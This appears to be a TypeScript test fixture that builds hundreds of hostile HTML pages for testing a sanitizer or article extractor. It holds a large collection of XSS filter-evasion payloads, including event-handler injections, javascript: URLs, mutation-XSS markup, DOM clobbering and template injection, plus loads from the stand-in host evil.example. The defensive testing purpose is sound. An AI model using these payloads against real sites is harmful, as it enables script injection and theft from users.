/**
 * Documents that try to run, to fetch, to leave or to dress something: made from the platform's own lists (HTML Standard:
 * elements, URL attributes, event handlers) crossed with the ways in which they are hidden, as the XSS Filter Evasion Cheat
 * Sheet of OWASP describes them. What they run is `ran()`, and what they fetch is at `evil.example`.
 */

const code = "globalThis.ran('x')";
const evil = 'https://evil.example/';

/** Elements of every kind that can stand in a page; the handler may fire at once, when shown, or never. */
const elements = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
];
const more = [
  'textarea autofocus',
  'body',
  'marquee',
  'iframe',
  'object data=x',
  'p tabindex=0',
  'div contenteditable',
];
const handlers =
  'onload onerror onclick onfocus onmouseover onpointerenter ontoggle onbegin onanimationstart onbeforetoggle onscroll ' +
  'oncontentvisibilityautostatechange onstart onloadstart onbeforeunload onhashchange onpageshow onresize';

const urls = [
  'a href',
  'area href',
  'iframe src',
  'embed src',
  'object data',
  'form action',
  'button formaction',
  'img src',
  'img srcset',
  'image href',
  'video poster',
  'source src',
  'track src',
  'link rel=stylesheet href',
  'link rel=preload as=image href',
  'base href',
  'script src',
  'input type=image src',
  'body background',
  'table background',
  'blockquote cite',
  'frame src',
  'portal src',
  'a ping',
];

/** Addresses that are code, plainly or hidden, and addresses of others. */
const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java&#x09;script:${code}`,
  `&#106;&#97;&#118;&#97;script:${code}`,
  ` &#14; javascript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `vbscript:${code}`,
  `${evil}picture.png`,
  '//evil.example/picture.png',
];

/** Ways of hiding markup from whoever looks for it. */
const hidden: readonly string[] = [
  `<script>${code}</script>`,
  `<SCRIPT type=module>${code}</SCRIPT>`,
  `<scr<script>ipt>${code}</scr</script>ipt>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${code} /></svg>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${code}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<math href="javascript:${code}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<template><img src=x onerror="${code}"></template>`,
  `<textarea></textarea><img src=x onerror="${code}"></textarea>`,
  `<title></title><img src=x onerror="${code}"></title>`,
  `<xmp><img src=x onerror="${code}"></xmp>`,
  `<plaintext><img src=x onerror="${code}">`,
  `<!--><img src=x onerror="${code}">-->`,
  `<!--[if IE]><script>${code}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror="${code}">]]>`,
  `<?xml version="1.0"?><?xml-stylesheet href="javascript:${code}"?>`,
  `<!DOCTYPE x [<!ENTITY e "<img src=x onerror=${code}>">]>&e;`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<style>@import '${evil}x.css'; body { background: url(${evil}x.png) }</style>`,
  `<p style="background: url(${evil}x.png); position: fixed; inset: 0">Over all</p>`,
  `<link rel=dns-prefetch href=${evil}><link rel=prefetch href=${evil}>`,
  `<iframe srcdoc="<script>parent.ran('x')</script>"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>parent.ran('x')</script>"></object>`,
  `<form id=f><input name=attributes><input name=parentNode></form><a id=location href=x>x</a>`,
  `<a href="x" id="trustedTypes">x</a><img name=getElementById><img id=currentScript>`,
  `<p id="main">Second</p><h1 id="article">Second</h1><p role=status>Second</p>`,
  `<button popovertarget=x onclick="${code}">x</button><div popover id=x ontoggle="${code}">x</div>`,
  `<a data-tool="../../evil" href="javascript:${code}">x</a><p data-tool=settings data-start=settings>x</p>`,
  `<base target=_top><a href="${evil}" target=_top ping=${evil}>x</a>`,
  `<img src=x onerror=\u0000"${code}">`,
  `<img\u0000 src=x onerror="${code}">`,
  `<img/src=x/onerror="${code}"/>`,
  `<img src="x\`><img src=x onerror='${code}'>"`,
  `<a title="'"onmouseover=${code}//">x</a>`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `\u2028\u2029<script>${code}</script>\ufeff`,
  `%3Cscript%3E${code}%3C/script%3E &lt;script&gt;${code}&lt;/script&gt;`,
  `[x](javascript:${code}) ![x](${evil}x.png) <javascript:${code}>`,
  `[x]: javascript:${code}\n\n[x] :::caption ::: ---\ntitle: "<script>"\n---`,
  `{{constructor.constructor("${code}")()}} \${${code}} <%= ${code} %> #{${code}}`,
];

/** Each in a page of its own, around it the paragraphs of an article: hundreds of documents. */
export function hostileDocuments(): readonly string[] {
  const handled = [...elements, ...more].flatMap((element) =>
    handlers.split(' ').map((handler) => `<${element} ${handler}="${code}">`),
  );
  const addressed = urls.flatMap((attribute) =>
    addresses.map((address) => `<${attribute}="${address}">words</a>`),
  );
  return [...handled, ...addressed, ...hidden];
}

/** A page with something hostile in each of the places where an article has something. */
export const hostilePage = (hostile: string, at: number): string =>
  `<html lang="en"><head><title>Ferry ${at} ${hostile}</title></head><body><article><h1>Ferry ${at} sinks ${hostile}</h1>` +
  `<p>The harbour master of town ${at} said that the ferry had left the harbour on time. ${hostile}</p>` +
  `<figure><img src="${evil}${at}.png" alt="Smoke"><figcaption>Smoke over the port. ${hostile} Jane Doe/AFP</figcaption></figure>` +
  `<p>Nobody had seen the fog that came in from the north within minutes, he said.</p><ul><li>${hostile}</li></ul></article></body></html>`;
